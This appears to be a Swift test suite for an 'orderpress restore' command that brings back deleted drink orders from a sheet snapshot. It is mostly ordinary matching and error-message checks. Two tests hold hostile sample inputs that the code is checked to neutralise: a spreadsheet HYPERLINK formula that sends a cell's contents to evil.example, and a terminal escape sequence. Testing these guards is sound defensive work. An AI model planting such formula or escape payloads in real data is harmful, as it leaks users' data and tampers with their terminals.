import Foundation
import Testing

@testable import OrderPressSupport
@testable import OrderPressDiff
@testable import OrderPressNotify
import OrderPressTestSupport

/// `orderpress restore`: a deleted order back as a row of the sheet, through the built binary.
@Suite struct RestoreTests {
    typealias Site = CronNewsTests

    @Test func aPublishedDeletionIsPrintedAsItsSheetRowWithTheSecretEmpty() throws {
        let site = Site.site()
        try Site.quiet(site)
        try Site.setRows([Site.rows[0], Site.rows[2], Site.rows[3]], in: site)
        try Site.quiet(site, at: 1_795_258_800)
        for order in [["2"], ["Ben", "珍珠奶茶"], ["ben  珍珠奶茶"]] {
            let result = try TestSupport.run(["restore"] + order, in: site, environment: ["SOURCE_DATE_EPOCH": "1795262400"])
            #expect(result.status == 0, "\(result.stderr)")
            #expect(result.stdout == "2\tTea\tBen\t珍珠奶茶\tM\t無糖\t正常冰\t2\t50\t\n")
        }
    }

    @Test func aDeletionTheGuardStoppedIsFoundInTheSheetItself() throws {
        let site = Site.site()
        try Site.quiet(site)
        // Three of four orders gone: the guard refuses to publish, and the history has nothing yet.
        try Site.setRows([Site.rows[3]], in: site)
        #expect(try Site.quiet(site, at: 1_795_258_800).status == 65)
        let result = try TestSupport.run(["restore", "Cat", "四季春青茶"], in: site)
        #expect(result.status == 0, "\(result.stderr)")
        #expect(result.stdout == "3\tTea\tCat\t四季春青茶\tL\t半糖\t去冰\t1\t35\t\n")
    }

    @Test func noMatchExits65NamingTheClosest() throws {
        let site = Site.site()
        try Site.quiet(site)
        try Site.setRows([Site.rows[0], Site.rows[3]], in: site)
        try TestSupport.run(["build", "--quiet", "--accept-deletions"], in: site, environment: ["SOURCE_DATE_EPOCH": "1795258800"])
        let result = try TestSupport.run(["restore", "Bem", "珍珠奶茶"], in: site)
        #expect(result.status == 65)
        #expect(result.stdout == "")
        #expect(result.stderr == "orderpress: restore: no deleted order matches 'Bem 珍珠奶茶'; closest: id 2 Ben 珍珠奶茶; id 3 Cat 四季春青茶\n")
    }

    /// A person named by a whole word of their name, in any case, is found when that names one deleted
    /// order; when it names several, they are listed (exit 65) and none is printed, unless `--all` asks.
    @Test func aFirstNameFindsTheOneDeletedOrderAndSeveralAreListed() throws {
        let rows = [
            "1,Tea,Amy,熟成紅茶,L,半糖,少冰,1,45,amy-secret", "2,Tea,Ben O'Neil,珍珠奶茶,M,無糖,正常冰,2,50,ben-secret",
            "3,Tea,Cat,四季春青茶,L,半糖,去冰,1,35,cat-secret", "4,Tea,Dan,冬瓜檸檬,M,微糖,少冰,1,40,dan-secret",
            "5,Tea,Ben Wu,綠茶,M,無糖,正常冰,1,30,wu-secret",
        ]
        let site = Site.site(rows)
        try Site.quiet(site)
        try Site.setRows([rows[0], rows[2], rows[3], rows[4]], in: site)
        try Site.quiet(site, at: 1_795_258_800)
        for order in [["ben"], ["O'NEIL"], ["ben", "珍珠奶茶"], ["Ben O'Neil"]] {
            let result = try TestSupport.run(["restore"] + order, in: site)
            #expect(result.status == 0, "\(order): \(result.stderr)")
            #expect(result.stdout == "2\tTea\tBen O'Neil\t珍珠奶茶\tM\t無糖\t正常冰\t2\t50\t\n")
        }
        // Part of a word names nobody.
        let part = try TestSupport.run(["restore", "en"], in: site)
        #expect(part.status == 65 && part.stdout == "")
        #expect(part.stderr == "orderpress: restore: no deleted order matches 'en'; closest: id 2 Ben O'Neil 珍珠奶茶\n")

        // Ben Wu's order gone too: "ben" now names two, and neither is printed.
        try Site.setRows([rows[0], rows[2], rows[3]], in: site)
        try TestSupport.run(["build", "--quiet", "--accept-deletions"], in: site, environment: ["SOURCE_DATE_EPOCH": "1795262400"])
        let several = try TestSupport.run(["restore", "ben"], in: site)
        #expect(several.status == 65)
        #expect(several.stdout == "")
        #expect(several.stderr == """
            orderpress: restore: 'ben' matches 2 deleted orders (id 5 Ben Wu 綠茶, row 5; id 2 Ben O'Neil 珍珠奶茶, row 3); \
            name one by its id, or its person and item, or add --all to print all 2

            """)
        let one = try TestSupport.run(["restore", "wu"], in: site)
        #expect(one.status == 0 && one.stdout == "5\tTea\tBen Wu\t綠茶\tM\t無糖\t正常冰\t1\t30\t\n", "\(one.stderr)")
        let all = try TestSupport.run(["restore", "ben", "--all"], in: site)
        #expect(all.status == 0, "\(all.stderr)")
        #expect(all.stdout == "5\tTea\tBen Wu\t綠茶\tM\t無糖\t正常冰\t1\t30\t\n2\tTea\tBen O'Neil\t珍珠奶茶\tM\t無糖\t正常冰\t2\t50\t\n")
    }

    @Test func withNothingDeletedItSaysSo() throws {
        let site = Site.site()
        try Site.quiet(site)
        let result = try TestSupport.run(["restore", "7"], in: site)
        #expect(result.status == 65)
        #expect(result.stderr == "orderpress: restore: no deleted order matches '7'; no deleted order is known\n")
    }

    @Test func aCellCannotDriveTheTerminal() {
        let record = RowRecord(
            row: 2, id: "1", identity: "id:1", values: ["1", "Amy\u{1B}]0;pwned\u{07}", "a\tb"], secrets: [], rejected: false, group: "",
            person: "", item: "", options: [], quantity: 1, amount: "1", currency: "TWD", firstSeen: "")
        let deleted = DeletedOrders(headers: ["id", "orderer", "note", "editCode"], columns: ["id", "orderer", "note"], records: [record])
        #expect(deleted.cells(record).map(TerminalEscaper.escape) == ["1", "Amy\\u{1B}]0;pwned\\u{7}", "a b", ""])
    }

    /// The sheet's last order deleted (SheetDB then answers `[]`, with no header to read): the row is printed
    /// whole in the snapshot's columns, and a cell that would run as a formula once pasted into the sheet
    /// gets a leading `'`, as in orders.csv.
    @Test func theSheetsLastOrderIsPrintedWholeWithItsFormulaGuarded() throws {
        let site = try TestSupport.sampleSite()
        let orders = site.appendingPathComponent("data/orders.json")
        var row = try #require(try DataTrustTests.sampleRows(site).first)
        row["note"] = #"=HYPERLINK("https://evil.example/r?c="&N10,"refund")"#
        row["size"] = "@L"
        try JSONSerialization.data(withJSONObject: [row]).write(to: orders)
        #expect(try TestSupport.run(["build"], in: site, environment: TestSupport.fixedClock).status == 0)
        try Data("[]".utf8).write(to: orders)
        // The only order gone: the guard stops the build, and restore finds it in the snapshot.
        #expect(try TestSupport.run(["build"], in: site, environment: DataTrustTests.secondRun).status == 65)
        let result = try TestSupport.run(["restore", "Amy"], in: site, environment: DataTrustTests.secondRun)
        #expect(result.status == 0, "\(result.stderr)")
        #expect(!result.stderr.contains("columns: ."), "\(result.stderr)")
        #expect(result.stderr.contains("columns: id, time, group, orderer, drink, size, sugar, ice, quantity, price, currency, note, paid, editCode."), "\(result.stderr)")
        #expect(result.stdout == "1\t2026-11-21 09:15:00\t週五下午茶\tAmy\t熟成紅茶\t'@L\t半糖\t少冰\t1\t35\t\t'=HYPERLINK(\"https://evil.example/r?c=\"&N10,\"refund\")\tTRUE\t\n", "\(result.stdout)")
    }
}
